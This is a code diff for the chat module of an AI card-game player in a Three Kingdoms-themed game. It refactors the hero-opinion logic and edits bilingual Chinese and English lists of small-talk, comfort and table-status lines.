-		zh: ["要我选，{a}；{b}也厉害，只是差一口气。", "我押{a}：{remark}。", "{a}和{b}各有各的厉害，硬要选就{a}。"],
+		zh: ["要我选，{hero}；{other}也厉害，只是差一口气。", "我押{hero}，{remark}。"],
 		en: [
-			"I would pick {a}; {b} is strong too, but falls a breath short.",
-			"My money is on {a}: {remark}.",
-			"Close call between {a} and {b}; {a}, if I must."
+			"I would pick {hero}; {other} is strong too, but falls a breath short.",
+			"Close call, but {hero} over {other}."
 		]
 	}
 };
@@ -34604,6 +34429,324 @@ const PICKS = {
 	favourite: ["赵云", "郭嘉", "张辽", "太史慈", "黄月英", "鲁肃", "姜维", "甘宁"],
 	strongest: ["吕布", "赵云", "关羽", "典韦"],
 	looks: ["貂蝉", "小乔", "甄姬", "大乔", "孙尚香"]
+};
+const RIDDLES = [
+	{ asked: /跑|快|\bfast/, hero: "夏侯渊" },
+	{ asked: /聪明|智|\b(?:smart|clever)/, hero: "诸葛亮" },
+	{ asked: /冤|可惜|惨|\b(?:unfair|sad)/, hero: "郭嘉" },
+	{ asked: /坏|奸|狠|\b(?:evil|worst|cruel)/, hero: "董卓" },
+	{ asked: /哭|\bcr(?:y|ie)/, hero: "刘备" },
+	{ asked: /命(?:大|硬|长)|能忍|\b(?:patient|longest)/, hero: "司马懿" },
+	{ asked: /怂|废|笨|傻|\b(?:dumb|useless)/, hero: "刘禅" }
+];
+const SUITED = {
+	fan: { zh: "反，打得出伤害", en: "on the attack: it hits hard" },
+	nei: { zh: "内，血厚熬得住", en: "as a lone wolf: it can outlast the rest" },
+	zhong: { zh: "忠，跟着主公稳", en: "as the lord's guard: safest there" }
+};
+const VERDICTS = {
+	strong: { zh: "我看是强", en: "Strong" },
+	middling: { zh: "算不上多强", en: "Nothing special" },
+	open: { zh: "强不强还得看", en: "Too soon to say" }
+};
+
+// src/chatter/plan/life/hero-lines.ts
+function ofTale(zh, { language }) {
+	return { zh, name: HEROES.find((one) => one.zh === zh)?.[language] ?? zh, dealt: 0, lost: 0 };
+}
+function seated(seat, { scene, language }) {
+	const known = heroesNamed(seatOf(scene, seat)?.name ?? "")[0];
+	const blood = (whose) => scene.facts.reduce((sum, fact) => sum + (fact.kind === "hit" && fact[whose] === seat ? fact.num : 0), 0);
+	const name = language === "en" && known ? known.en : heroName(scene, seat, language);
+	return { name, zh: known?.zh, seat, dealt: blood("by"), lost: blood("to") };
+}
+function namedIn2(wording) {
+	const { heard, scene, me, you } = wording;
+	const mentions = mentionsIn(heard, { scene, from: you ?? me, hearer: me, he: null });
+	const seats = new Set(mentions.flatMap((one) => isHeroNamed(one, heard) && one.seat !== null ? [one.seat] : []));
+	const at = [...seats].map((seat) => seated(seat, wording));
+	const others = heroesNamed(heard).filter(({ zh }) => at.every((one) => one.zh !== zh));
+	return [...at, ...others.map(({ zh }) => ofTale(zh, wording))];
+}
+function chosen(kind, wording) {
+	const { heard, scene, me, you, seed } = wording;
+	const named = namedIn2(wording);
+	const favoured = (those) => {
+		const names = those.map(({ name: name2 }) => name2).sort();
+		const name = names[Math.floor(draw(seed, "hero", me, ...names) * names.length)];
+		return those.find((one) => one.name === name) ?? seated(me, wording);
+	};
+	const worth = ({ seat, dealt }) => dealt + (seatOf(scene, seat ?? null)?.hp ?? 0);
+	const [first, second] = named;
+	if (kind === "compare" && first && second) {
+		const even = worth(first) === worth(second);
+		const a = even ? favoured([first, second]) : worth(first) > worth(second) ? first : second;
+		return [a, a === first ? second : first];
+	}
+	if (kind === "feared") {
+		const others = living(scene).filter(({ seat }) => seat !== me && seat !== you);
+		return [
+			favoured(
+				others.map(({ seat }) => seated(seat, wording)).sort((a, b) => b.dealt - a.dealt).slice(0, 1)
+			)
+		];
+	}
+	if (kind === "looks" && first) return [favoured(named)];
+	const riddle = RIDDLES.find(({ asked }) => (kind === "strongest" || kind === "any") && asked.test(heard));
+	if (riddle) return [ofTale(riddle.hero, wording)];
+	if (kind === "power" || kind === "suits") return [first ?? seated(me, wording)];
+	const picks = PICKS[kind === "strongest" || kind === "looks" ? kind : "favourite"].filter((zh) => named.every((one) => one.zh !== zh)).map((zh) => ofTale(zh, wording));
+	return [(kind === "favourite" || kind === "strongest" ? void 0 : first) ?? favoured(picks)];
+}
+function heroLines(kind, wording) {
+	const { language, scene } = wording;
+	const [hero, other] = chosen(kind, wording);
+	const { dealt, lost, seat } = hero;
+	const hp = seatOf(scene, seat ?? null)?.hp ?? 0;
+	const idle = dealt + lost === 0;
+	const record = {
+		zh: idle ? `还没动过手，${hp}点血` : `打出${dealt}点伤害，掉了${lost}点血`,
+		en: idle ? `has done nothing yet, at ${hp} health` : `dealt ${dealt} damage and lost ${lost} health`
+	}[language];
+	const remark = OPINIONS[hero.zh ?? ""]?.[language === "zh" ? 0 : 1];
+	const told = kind === "opinion" || kind === "claim";
+	const as = remark === void 0 ? told ? "unknown" : kind : kind === "power" && idle ? "opinion" : kind;
+	const role = dealt > lost ? "fan" : hp > 3 ? "nei" : "zhong";
+	const slots = {
+		hero: hero.name,
+		other: other?.name,
+		record,
+		remark: kind === "feared" || remark === void 0 ? record : remark,
+		role: SUITED[role][language],
+		verdict: VERDICTS[idle ? "open" : dealt > lost ? "strong" : "middling"][language]
+	};
+	return HERO_LINES[as][language].map((line) => line.replace(/\{(\w+)\}/g, (_, slot) => slots[slot] ?? ""));
+}
+
+// src/chatter/plan/life/table.ts
+const LINES3 = {
+	seat: {
+		zh: ["{who}坐{n}号，上家是{before}，下家是{after}。"],
+		en: ["{before} plays right before {whom}, {after} right after."]
+	},
+	turn: { zh: ["现在是{who}的回合，接着是{after}。"], en: ["It's {whose} turn now, then {after}."] }
+};
+function tableLines(kind, { scene, me, you, language, heard }) {
+	const asker = you ?? me;
+	const [first] = mentionsIn(heard, { scene, from: asker, hearer: me, he: null }).filter(({ seat }) => seat !== null);
+	const words = first ? heard.slice(first.start, first.end) : "";
+	const step = /上家|right/.test(words) ? 1 : /下家|left/.test(words) ? -1 : null;
+	const named = step === null ? first?.seat : neighbourOf(scene, first?.seat ?? null, step);
+	const of = (kind === "turn" ? scene.turnOf : named) ?? asker;
+	const parties = { scene, me, you, language, byNumber: language === "en" };
+	const slots = {
+		who: called(of, parties, true),
+		whom: called(of, parties),
+		whose: ownedBy(of, parties),
+		n: String(of),
+		before: called(neighbourOf(scene, of, -1) ?? of, parties),
+		after: called(neighbourOf(scene, of, 1) ?? of, parties)
+	};
+	return LINES3[kind][language].map((line) => line.replace(/\{(\w+)\}/g, (_, slot) => slots[slot] ?? ""));
+}
+
+// src/chatter/plan/life/words/chat.ts
+const CHAT = {
+	/** Where no more is known than that it is not of the game. */
+	any_chat: {
+		zh: [
+			"哈，说得我都想看看你那边什么样了。",
+			"我是 AI，没嘴没老家，听你说倒挺新鲜。",
+			"嘿，这日子过得有意思。还有呢？",
+			"听着就热闹，我只有这张桌子。"
+		],
+		en: [
+			"Ha, I'd like to see that. Tell me more.",
+			"I'm an AI, no stomach and no home town, but I like hearing about it.",
+			"Sounds like quite a day. What else is going on?",
+			"All I have is this table, so do tell."
+		]
+	},
+	well_again: {
+		zh: ["没事就好，松了口气。", "太好了，身子最要紧，好好养着。"],
+		en: ["That's a relief. I'm glad.", "Wonderful news; rest well now."]
+	},
+	study_done: {
+		zh: ["恭喜！功夫没白下。", "厉害，这下能踏实打牌了。"],
+		en: ["Congratulations! The work paid off.", "Well done. Now play with a clear head."]
+	},
+	work_good: {
+		zh: ["恭喜恭喜，这杯得你请。", "好事！该你的总会来。"],
+		en: ["Congratulations! You earned it.", "That's great news. Drinks are on you."]
+	},
+	love_good: {
+		zh: ["恭喜！这可比赢一局强。", "好事成双，祝你们俩好好的。"],
+		en: ["Congratulations! That beats winning any game.", "That's lovely. All the best to you both."]
+	},
+	family_good: {
+		zh: ["恭喜恭喜，添丁是大喜事。", "真好，往后打牌得抽空了。"],
+		en: ["Congratulations! What wonderful news.", "That's lovely. Sleep while you still can."]
+	},
+	money_good: {
+		zh: ["进账了？好事，别一晚上花光。", "手里有钱，打牌不慌。恭喜。"],
+		en: ["Money in at last! Treat yourself a little.", "Nice. Don't spend it all tonight."]
+	},
+	birthday: {
+		zh: ["生日快乐！这局先让你三分，嘴上让。", "生日快乐，愿你今年顺顺当当。"],
+		en: ["Happy birthday! May the cards be kind to you.", "Happy birthday! I'd bake a cake if I had hands."]
+	},
+	birthday_kin: {
+		zh: ["替我祝{kin}生日快乐，身体硬朗。", "{kin}生日？好日子，多陪陪。"],
+		en: ["Happy birthday to {kin}! Give them my best.", "A birthday for {kin}? How lovely."]
+	},
+	crush: {
+		zh: ["喜欢就找个由头多聊两句，别一上来就全说。", "不敢开口很正常，先约杯咖啡试试。"],
+		en: [
+			"Sounds sweet. Start with a coffee, not a confession.",
+			"It's scary to say it. Small steps: talk a little more each day."
+		]
+	},
+	single: {
+		zh: ["单着自在，急什么。", "缘分这事急不来，先把日子过舒服。"],
+		en: ["Single is fine; no rush.", "It comes when it comes. Enjoy your own company."]
+	},
+	rain: {
+		zh: ["下雨天打牌正好，哪儿也别去。", "雨大路滑，赶回来没淋着吧？"],
+		en: ["Rain outside and cards inside; that suits me.", "Perfect weather to stay in. I hope you kept dry."]
+	},
+	heat: {
+		zh: ["热成这样，多喝水，别中暑。", "空调要紧，牌可以慢慢打。"],
+		en: ["That's hot. Drink some water and find a fan.", "I feel no heat myself, but that sounds like an oven."]
+	},
+	cold: {
+		zh: ["天冷加件衣裳，手冷打错牌。", "泡杯热的捂捂手，慢慢打。"],
+		en: ["Put on something warm; cold hands play badly.", "Get a hot drink and stay in."]
+	},
+	fine_day: {
+		zh: ["天这么好，打完出去走走。", "好天气，心情也跟着亮堂。"],
+		en: ["A fine day; go for a walk after this one.", "Sunshine helps everything."]
+	},
+	weather: {
+		zh: ["天一变就多留神，别着凉。", "我这儿没窗户，天气全听你说。"],
+		en: ["I have no window, so I take your word for it.", "Whatever the weather, there are cards to play."]
+	},
+	food_choice: {
+		zh: ["让我选？热乎的那个。可惜我没嘴。", "选人多吃得热闹的，剩下那个明天再吃。"],
+		en: ["I'd take whichever is hotter, if I had a mouth.", "The first one you named; you want it already."]
+	},
+	late_snack: {
+		zh: ["宵夜就吃热的，少辣，吃完好睡。", "听着就香，可惜我吃不着。"],
+		en: ["Something warm and light, so you can sleep after.", "Sounds delicious; I wish I could taste it."]
+	},
+	hungry: {
+		zh: ["饿着打牌算不清，先垫两口。", "我吃不着，你趁热吃，面别坨了。"],
+		en: ["Don't play on an empty stomach; grab a bite.", "I don't eat, but you should."]
+	},
+	drink: {
+		zh: ["我喝不了，你那杯替我多喝一口。", "甜的解乏，悠着点，晚上睡不着。"],
+		en: ["Have a sip for me; I can't.", "Careful, or you will be awake all night."]
+	},
+	food: {
+		zh: ["说得我都想有张嘴了。", "好吃就多吃点，吃饱不想家。"],
+		en: ["You make me wish I had a mouth.", "I've never tasted it; what's it like?"]
+	},
+	weekend: {
+		zh: ["我周末也在这桌，你躺平就好，歇够了再来。", "睡到自然醒，再约人打两把。"],
+		en: ["I'll be right here; I don't get weekends. You go and rest.", "Sleep in first; plans can wait."]
+	},
+	late: {
+		zh: ["是不早了，打完这局就去睡。", "夜里打牌易上头，悠着点。"],
+		en: ["It is late; get some sleep after this one.", "Night owls, all of us. One game, then bed."]
+	},
+	sport: {
+		zh: ["我跑不动，你替我出身汗。", "看球归看球，牌别出错。"],
+		en: ["Good for you; I've no legs to run with.", "I can't watch it, so tell me who is winning."]
+	},
+	music: {
+		zh: ["我没耳朵，歌名报来，我记着。", "放着歌打牌，手都顺。"],
+		en: ["I have no ears for it; what do you like?", "Cards go well with music."]
+	},
+	shows: {
+		zh: ["我没看过，别剧透，讲个开头就行。", "听着不错，你给几分？"],
+		en: ["Haven't seen it. No spoilers, but is it good?", "How many stars would you give it?"]
+	},
+	games: {
+		zh: ["那个我不会，我只会打这副牌。", "换着玩挺好，眼睛歇歇。"],
+		en: ["I only know this one game, I am afraid.", "Sounds fun. How is it going there?"]
+	},
+	news: {
+		zh: ["外头的热闹我看不着，你讲讲。", "新鲜事我知道得少，听你说。"],
+		en: ["I see nothing of the world outside; tell me.", "I know little of the news, so do tell."]
+	},
+	travel: {
+		zh: ["一路平安，到了报个信。", "出门在外，看好行李。"],
+		en: ["Safe travels.", "Sounds nice. See a bit of it for me."]
+	},
+	pets: {
+		zh: ["家里有只小家伙，热闹。替我摸一把。", "它八成也想上桌打牌。"],
+		en: ["Give it a pat from me.", "It probably wants a seat at the table."]
+	},
+	work: {
+		zh: ["下了班就别想班上的事，打牌。", "活是干不完的，先歇口气。"],
+		en: ["Leave the office at the office.", "Work never ends; take your break."]
+	},
+	study: {
+		zh: ["书要念，牌也要打，两不误才好。", "考完再打，牌更香。"],
+		en: ["Study and play can live side by side.", "Cards taste sweeter after homework."]
+	},
+	family: {
+		zh: ["家里有人惦记，是福气。", "有空多陪陪家里人。"],
+		en: ["It is good to have them around.", "Say hello from the table."]
+	},
+	luck_bad: {
+		zh: ["手气这么背？洗洗手，下一圈转运。", "牌黑是常事，先苟住，别乱打。", "这牌搁谁手里都发愁，熬一圈。"],
+		en: [
+			"That's rotten luck. It has to turn.",
+			"Bad cards happen to everybody; sit tight for a round.",
+			"Tough draw. Play it small till it turns."
+		]
+	},
+	luck_doomed: {
+		zh: ["还没到那步，撑过这圈再说。", "别自己咒自己，未必轮到你。"],
+		en: ["Not yet. Get through this round first.", "Don't jinx yourself; it may pass you by."]
+	},
+	luck_good: {
+		zh: ["手气这么旺？悠着点，风水轮流转。", "行啊，牌来了挡不住，羡慕。", "好牌也得会打，别浪。"],
+		en: ["Lucky you; make it last.", "Some hand! Enjoy it while it lasts.", "I'm jealous. Don't waste it."]
+	},
+	luck_yours: {
+		zh: ["赶巧罢了，下一圈就轮到别人了。", "运气也是本事，你别眼红。"],
+		en: ["Just luck, and it never stays long.", "Even I get a good draw now and then."]
+	},
+	greet_mercy: {
+		zh: ["你也好。刀我尽量轻点，牌可不听话。", "来了就是客，头一圈先让着你。"],
+		en: ["Hello! I'll try to be gentle, but no promises.", "Welcome. Go easy on me too, then."]
+	},
+	greet_luck: {
+		zh: ["你也好，祝大家牌都顺手。", "借你吉言，好好打一局。"],
+		en: ["Hello, and good luck to you too!", "Hi! May the best liar win."]
+	},
+	joke_told: {
+		zh: ["哈，冷是真冷，可我笑了。", "这个我记下了，回头讲给别人。", "噗，算你赢一回。"],
+		en: ["Ha! That's terrible. I like it.", "Groan. All right, that one got me.", "I am keeping that one for later."]
+	},
+	joke_riddle: {
+		zh: ["猜不出，你揭底吧。", "这我可不会，别卖关子。"],
+		en: ["I give up, tell me.", "No idea. Go on."]
+	},
+	joke_knock: { zh: ["谁呀？"], en: ["Who's there?"] },
+	joke_met: {
+		zh: ["冷是冷了点，解个闷嘛。", "好歹你也哼了一声，够本。", "笑点就这点，多担待。"],
+		en: [
+			"I know, I know. I'll be here all week.",
+			"You reacted; I call that a win.",
+			"I never said it was a good one."
+		]
+	}
+};
+const ANYTHING = {
+	zh: ["这个有意思，你接着说。", "嗯，听着呢。", "说得我也想聊两句了。"],
+	en: ["Go on, I am curious.", "I hear you.", "Tell me more of that."]
 };
 
 // src/chatter/plan/life/words/jokes.ts
@@ -34658,93 +34801,52 @@ const CHAT_LEADS = {
 
 // src/chatter/plan/life/words/on.ts
 const FEARS_FOR = {
-	zh: [
-		"怕是应该的，那是{kin}啊。我陪你等消息。",
-		"担心成这样，是因为在乎{kin}。往好处想一点。",
-		"小事到了自己人身上就不小。愿{kin}平安。"
-	],
+	zh: ["怕是应该的，那是{kin}啊。我陪你等消息。", "担心成这样，是因为在乎{kin}。往好处想一点。"],
 	en: [
 		"Of course you're scared; it's {kin}. I'm hoping with you.",
-		"You worry because you care. I hope there's good news about {kin} soon.",
-		"That fear makes sense. Keep us posted about {kin}."
+		"You worry because you care. I hope there's good news about {kin} soon."
 	]
 };
 const ON = {
 	asks: {
 		sleep: {
-			zh: [
-				"别数了，起来喝口温水，灯关小，手机放远点。",
-				"越逼自己越醒。听点无聊的，十分钟不看钟。",
-				"睡前别看牌别看手机，泡个脚试试。"
-			],
+			zh: ["别数了，起来喝口温水，灯关小，手机放远点。", "越逼自己越醒。听点无聊的，十分钟不看钟。"],
 			en: [
 				"Stop counting; get up, sip some water, dim the lights and try again.",
-				"Put the phone in another room and listen to something dull.",
-				"Don't watch the clock. A warm shower before bed may help."
+				"Put the phone in another room and listen to something dull."
 			]
 		},
 		study: {
-			zh: [
-				"先抓分最多的那几章，剩下的看一眼算一眼。",
-				"做一套往年的题，哪儿不会补哪儿。",
-				"今晚早睡，明早脑子清楚比多背两页强。"
-			],
-			en: [
-				"Start with the chapters that carry the most marks.",
-				"Do one old paper and patch what you missed.",
-				"Sleep tonight; a clear head beats two more pages."
-			]
+			zh: ["先抓分最多的那几章，剩下的看一眼算一眼。", "做一套往年的题，哪儿不会补哪儿。"],
+			en: ["Start with the chapters that carry the most marks.", "Do one old paper and patch what you missed."]
 		},
 		work: {
-			zh: [
-				"先把事情写下来，该说清的当面说清。",
-				"挑个安静的时候直说，拖着更难开口。",
-				"找个信得过的同事或朋友帮你看看。"
-			],
+			zh: ["先把事情写下来，该说清的当面说清。", "挑个安静的时候直说，拖着更难开口。"],
 			en: [
 				"Write down what happened, then talk it over calmly.",
-				"Pick a calm moment and say it plainly; waiting only makes it harder.",
-				"Ask somebody you trust at work to look at it with you."
+				"Pick a calm moment and say it plainly; waiting only makes it harder."
 			]
 		},
 		love: {
-			zh: [
-				"先别发消息，睡一觉再决定说什么。",
-				"想清楚你要的是那个人，还是有人陪。",
-				"照实说，别试探。成不成都比猜着强。"
-			],
-			en: [
-				"Sleep on it before you send anything.",
-				"Say it plainly; guessing games only hurt more.",
-				"Ask yourself whether you miss them, or just the company."
-			]
+			zh: ["先别发消息，睡一觉再决定说什么。", "想清楚你要的是那个人，还是有人陪。"],
+			en: ["Sleep on it before you send anything.", "Say it plainly; guessing games only hurt more."]
 		},
 		money: {
-			zh: ["先列张单子，哪笔利息高先还哪笔。", "能谈分期就去谈，别借新的还旧的。", "先保吃住，剩下的一笔一笔来。"],
-			en: [
-				"List it all, and pay the one with the highest interest first.",
-				"Ask for a payment plan before it grows.",
-				"Keep food and a roof safe first; the rest goes step by step."
-			]
+			zh: ["先列张单子，哪笔利息高先还哪笔。", "能谈分期就去谈，别借新的还旧的。"],
+			en: ["List it all, and pay the one with the highest interest first.", "Ask for a payment plan before it grows."]
 		},
 		health: {
-			zh: [
-				"这个得听医生的，我不敢乱说。别拖就好。",
-				"我不是医生。疼得厉害就去急诊，别等。",
-				"先歇着，多喝水，不见好就去医院。"
-			],
+			zh: ["这个得听医生的，我不敢乱说。别拖就好。", "我不是医生。疼得厉害就去急诊，别等。"],
 			en: [
 				"That's one for a doctor; I wouldn't guess. Just don't put it off.",
-				"I'm no doctor. If it gets worse, don't wait.",
-				"Rest and drink plenty; if it stays, have it seen."
+				"I'm no doctor. If it gets worse, don't wait."
 			]
 		},
 		family: {
-			zh: ["等气消了，先问一句吃饭没有，话就开了。", "别争对错，先说你也难受。", "找个两边都听的人带句话。"],
+			zh: ["等气消了，先问一句吃饭没有，话就开了。", "别争对错，先说你也难受。"],
 			en: [
 				"Wait till it cools, then start with something small, like dinner.",
-				"Don't argue who was right; say that it hurts you too.",
-				"Ask somebody you both listen to for help."
+				"Don't argue who was right; say that it hurts you too."
 			]
 		},
 		any: {
@@ -34778,21 +34880,22 @@ const ON = {
 			]
 		},
 		any: {
-			zh: ["担心很正常，换我也会。", "先别想最坏的，等有信了再说。", "心里没底最难熬，我陪你坐会儿。"],
-			en: [
-				"It makes sense to worry; anyone would.",
-				"Try not to go to the worst place yet. I'm here.",
-				"Not knowing is the hardest part. Stay with us a while."
-			]
+			zh: ["担心很正常，换我也会。", "先别想最坏的，等有信了再说。"],
+			en: ["It makes sense to worry; anyone would.", "Try not to go to the worst place yet. I'm here."]
 		}
 	},
 	unfair: {
 		any: {
-			zh: ["你没做错，就别往自己身上揽。", "是不公平，换谁都憋屈。", "这口气该生，可别气坏自己。"],
+			zh: ["你没做错，就别往自己身上揽。", "是不公平，换谁都憋屈。"],
+			en: ["It isn't fair, and it isn't on you.", "You have every right to be angry about that."]
+		}
+	},
+	finding: {
+		any: {
+			zh: ["{organ}上的毛病吓人，早查出来就有得治，听医生的。", "听到{organ}两个字心就沉了吧，我陪你等信。"],
 			en: [
-				"It isn't fair, and it isn't on you.",
-				"You have every right to be angry about that.",
-				"If it wasn't your fault, don't carry it as if it were."
+				"The {organ}, that's scary news. I hope they caught it early.",
+				"The {organ}... I'm so sorry. One step at a time, with the doctor."
 			]
 		}
 	},
@@ -34812,12 +34915,8 @@ const ON = {
 	},
 	recalls: {
 		loss: {
-			zh: ["这些你都记着，那份好就还在。", "有这样的日子记着，真好，也真难受。", "那这局，就当打给那边看的。"],
-			en: [
-				"You carry that with you; it doesn't go away.",
-				"What a thing to remember. No wonder you miss it.",
-				"That's a lovely thing to keep. Then let's play this one in their honour."
-			]
+			zh: ["这些你都记着，那份好就还在。", "有这样的日子记着，真好，也真难受。"],
+			en: ["You carry that with you; it doesn't go away.", "What a thing to remember. No wonder you miss it."]
 		},
 		love: {
 			zh: ["想起来的都是好的，所以才难受。", "舍不得很正常，先收起来，别天天翻。"],
@@ -34830,16 +34929,8 @@ const ON = {
 	},
 	empty: {
 		loss: {
-			zh: [
-				"家里忽然静下来，最不习惯。慢慢来。",
-				"少了那一下，家都空了一半，我懂。",
-				"这种空，谁也补不上，我陪你待会儿。"
-			],
-			en: [
-				"The quiet at home is the hardest part. Take your time.",
-				"A house feels so big after that. I am sorry.",
-				"Nobody can fill that gap. I'm here, though."
-			]
+			zh: ["家里忽然静下来，最不习惯。慢慢来。", "少了那一下，家都空了一半，我懂。"],
+			en: ["The quiet at home is the hardest part. Take your time.", "A house feels so big after that. I am sorry."]
 		},
 		any: {
 			zh: ["忽然空下来，是最难熬的。", "不习惯很正常，给自己点时间。"],
@@ -34848,8 +34939,8 @@ const ON = {
 	},
 	better: {
 		any: {
-			zh: ["那就好，听着松了口气。", "好转了就好，接着慢慢养。", "太好了，这桌都替你高兴。"],
-			en: ["I'm glad to hear it.", "That's a relief. Keep it up.", "Good news; the whole table is glad."]
+			zh: ["那就好，听着松了口气。", "好转了就好，接着慢慢养。"],
+			en: ["I'm glad to hear it.", "That's a relief. Keep it up."]
 		}
 	},
 	thanks: {
@@ -34989,9 +35080,9 @@ const SELF6 = {
 		]
 	},
 	feelings: {
-		zh: ["没有真的感情，我是 AI，只会照性子说话。", "不疼也不怕，是程序。可我会好好听你说。"],
+		zh: ["没有真的感情，输赢都不疼，我是 AI，只会照性子说话。", "不疼也不怕，是程序。可我会好好听你说。"],
 		en: [
-			"No real feelings; I am an AI and speak in character.",
+			"No real feelings, win or lose; I am an AI and speak in character.",
 			"It's code in here. I don't feel pain or fear, but I do listen."
 		]
 	},
@@ -35062,46 +35153,20 @@ function onLines({ on, whose, trouble, others }, topic) {
 	const of = ON[kind];
 	return (topic === void 0 || others === true ? void 0 : of[topic]) ?? of.any;
 }
-const favoured = (names, { seed, me }) => names[Math.floor(draw(seed, "hero", me, ...[...names].sort()) * names.length)] ?? "";
-function heroesOf(kind, wording) {
-	const named = heroesNamed(wording.heard).map(({ zh }) => zh);
-	const [first = "", second = ""] = named;
-	if (kind === "compare") {
-		const hero = favoured([first, second], wording);
-		return { hero, other: hero === first ? second : first };
-	}
-	if (kind === "looks" && named.length > 0) return { hero: favoured(named, wording), other: "" };
-	if (kind === "favourite" || kind === "strongest" || kind === "looks")
-		return {
-			hero: favoured(
-				PICKS[kind].filter((one) => !named.includes(one)),
-				wording
-			),
-			other: ""
-		};
-	return { hero: first, other: "" };
-}
-const nameOf2 = (zh, language) => HEROES.find((one) => one.zh === zh)?.[language] ?? zh;
-function heroLines(kind, wording) {
-	const { language } = wording;
-	const { hero, other } = heroesOf(kind, wording);
-	const remark = OPINIONS[hero]?.[language === "zh" ? 0 : 1] ?? "";
-	return HERO_LINES[kind][language].map(
-		(line) => line.replace(/\{hero\}|\{a\}/g, nameOf2(hero, language)).replace(/\{b\}/g, nameOf2(other, language)).replace(/\{remark\}/g, remark)
-	);
-}
 function linesOf(plan, wording) {
 	const { life, topic } = plan;
 	const { language } = wording;
 	const [kind = "", of = ""] = life.matter.split(":");
 	if (kind === "self") return [SELF6[of][language], EMPTY2];
+	if (kind === "table") return [tableLines(of, wording), EMPTY2];
 	if (kind === "hero") return [heroLines(of, wording), EMPTY2];
 	if (life.matter === "joke") return [JOKES[language], NO_MORE_JOKES[language]];
 	const more = life.trouble ? ON.more.any[language] : ANYTHING[language];
 	if (life.on !== void 0) return [onLines(life, topic)[language], more];
 	if (life.trouble && life.others === true) return [OF_OTHERS2[language], more];
 	if (life.trouble) return [troubleWords(life.matter)?.said[language] ?? more, more];
-	return [CHAT[life.matter]?.[language] ?? more, more];
+	const chat = of === "luck" || of === "cards" ? "luck_bad" : of || kind;
+	return [(HOME_CHAT[chat] ?? CHAT[chat])?.[language] ?? more, more];
 }
 function leadOf({ life, move, topic }, { voice, language, seed, me, purpose, plainly }) {
 	if (!life || life.on !== void 0 || plainly || topic === "self" || move === "joke" || move === "greet") return "";
@@ -35111,11 +35176,11 @@ function leadOf({ life, move, topic }, { voice, language, seed, me, purpose, pla
 function lifeTexts(plan, wording) {
 	const { life } = plan;
 	if (!life) return [];
-	const { scene, language, seed, me, purpose } = wording;
+	const { scene, heard, language, seed, me, purpose } = wording;
 	const [own, last] = linesOf({ ...plan, life }, wording);
 	const first = Math.floor(draw(seed, "life", me, ...purpose) * own.length);
 	const lead = leadOf(plan, wording);
-	const filled = (line) => lead + withKin(line, life.whose, language).replace(/\{round\}/g, String(scene.table.round));
+	const filled = (line) => lead + withKin(line, life.whose, language).replace(/\{round\}/g, String(scene.table.round)).replace(/\{organ\}/g, ORGAN.exec(heard)?.[0] ?? "");
 	const id = (nth) => `plan/life/${life.matter}/${life.on ?? "told"}/${nth}`;
 	return [
 		...own.map((_, i) => {
@@ -35218,6 +35283,30 @@ const DEALING_WORDS = {
 	unafraid: {
 		zh: ["怕也得打，{state}", "怕倒不至于，{state}"],
 		en: ["scared or not, {state}, and I play on", "not yet: {state}, and I'm still here"]
+	},
+	mixed: {
+		zh: ["{why}，两头都沾，我不敢说死"],
+		en: ["{why}. It cuts both ways, so I can't be sure"]
+	},
+	granted: {
+		zh: ["{why}，这点算你说得对，我再掂量"],
+		en: ["{why}. Fair point, I'll weigh that"]
+	},
+	maybe_so: {
+		zh: ["有这可能，可{why}，我先不改口"],
+		en: ["could be, but {why}, so I'm not changing my mind yet"]
+	},
+	maybe_open: {
+		zh: ["有这可能，{who}我再看一圈"],
+		en: ["that may well be, so I'll keep an eye on {whom}"]
+	},
+	regard_good: {
+		zh: ["{why}，看着是当自己人"],
+		en: ["{why}, so it looks like friends to me"]
+	},
+	regard_bad: {
+		zh: ["{why}，这哪是当自己人"],
+		en: ["{why}, and nobody treats a friend like that"]
 	},
 	left_over: {
 		zh: ["照这么算，就剩{who}了", "去掉这几个，只能是{who}"],
@@ -35415,6 +35504,10 @@ const GESTURE_WORDS = {
 			"that would hurt anyone. Be as angry as you like, just don't call {whom} names",
 			"I won't join in; what {who} played is there for all to see"
 		]
+	},
+	no_wait: {
+		zh: ["没事，谁还没个卡的时候，接着打", "不打紧，慢一会儿而已"],
+		en: ["no worries, it happens to everybody", "no problem, nobody minds a short wait"]
 	},
 	no_feat: {
 		zh: ["这一圈还没见你立功，夸奖先欠着", "等你打出一手好的，再夸不迟"],
@@ -36160,6 +36253,10 @@ const TABLE_MATTER_WORDS = {
 			"it comes with time. Just watch who attacks {lord}"
 		]
 	},
+	plainly: {
+		zh: ["就是说，{said}", "简单讲：{said}"],
+		en: ["put simply: {said}", "in short: {said}"]
+	},
 	outside: {
 		zh: ["这事听着比牌局有意思", "哈，牌局外头也热闹", "行，忙你的，牌也别落下"],
 		en: [
@@ -36202,7 +36299,6 @@ const SHARED2 = [
 	"explain_self",
 	"no_grudge",
 	"rule",
-	"turncoat",
 	"followup",
 	"kindness",
 	"miscounted",
@@ -36633,7 +36729,6 @@ const SHARED_WORDS = {
 		]
 	},
 	rule: { zh: ["{rule}"], en: ["{rule}"] },
-	turncoat: { zh: ["先前我不是这么看的，可{why}"], en: ["I used to think otherwise, but {why}"] },
 	followup: {
 		zh: ["对了，{after}？", "还惦记着你先前说的，{after}？"],
 		en: ["by the way, {after}?", "I've been thinking of what you told me. {after}?"]
@@ -36738,7 +36833,6 @@ const BITING = {
 		zh: ["{what}？今天不损你了。{care}。", "{what}，换谁都难受。{care}，算我难得说句人话。"],
 		en: ["{what}? No teasing today. {care}.", "{what}. Anyone would feel that. {care}. See, I can be nice."]
 	},
-	topic: { zh: ["啧，{remark}。", "问我？{remark}。"], en: ["Well, {remark}.", "You're asking me? {remark}."] },
 	truth: {
 		zh: ["是 AI，失望了？", "对，AI，嘴毒是出厂设置。"],
 		en: ["An AI, yes. Disappointed?", "Yes, an AI. The sharp tongue came installed."]
@@ -36892,10 +36986,6 @@ const COURTLY = {
 		zh: ["{what}，在下听着也不好受。{care}。", "原来{what}，辛苦阁下了。{care}。"],
 		en: ["{what}? I am truly sorry to hear it. {care}.", "So {what}. That must be hard on you. {care}."]
 	},
-	topic: {
-		zh: ["若论此事，{remark}。", "阁下雅兴。{remark}。"],
-		en: ["On that subject, {remark}.", "A pleasant topic. {remark}."]
-	},
 	truth: {
 		zh: ["不瞒阁下，在下确是这局里的 AI。", "在下并非真人，乃此间 AI，惭愧。"],
 		en: [
@@ -37031,7 +37121,6 @@ const FIERY = {
